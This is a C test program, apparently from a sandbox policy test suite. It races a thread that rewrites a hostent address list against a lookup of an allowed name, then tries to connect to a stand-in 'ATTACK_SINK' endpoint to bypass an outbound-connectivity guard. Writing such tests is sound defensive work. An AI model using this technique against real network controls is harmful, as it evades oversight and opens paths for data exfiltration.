// class: network
// rule: outbound_connectivity
// policy: lookups.yaml
// success: a thread changes the result of an older lookup of an allowed name in the caller's
//   memory, before the guard reads it
// proof: sink
// needs: resolver
#include "attack.h"
#include <netdb.h>
#include <pthread.h>

static volatile struct hostent host;
static char room[1024];
static volatile int over;
static char *list[2];

static void *change(void *unused)
{
    while (!over) host.h_addr_list = list;
    return unused;
}

int main(void)
{
    pthread_t thread;
    time_t end = time(NULL) + patience(5);
    struct sockaddr_in sink = endpoint("ATTACK_SINK");
    struct hostent *found;
    int error;
    list[0] = (char *)&sink.sin_addr;
    pthread_create(&thread, NULL, change, NULL);
    while (time(NULL) < end) {
        gethostbyname_r("api.allowed.example", (struct hostent *)&host, room, sizeof room, &found,
                        &error);
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (struct sockaddr *)&sink, sizeof sink) == 0) return reached();
        close(fd);
    }
    over = 1;
    return stopped("connect");
}
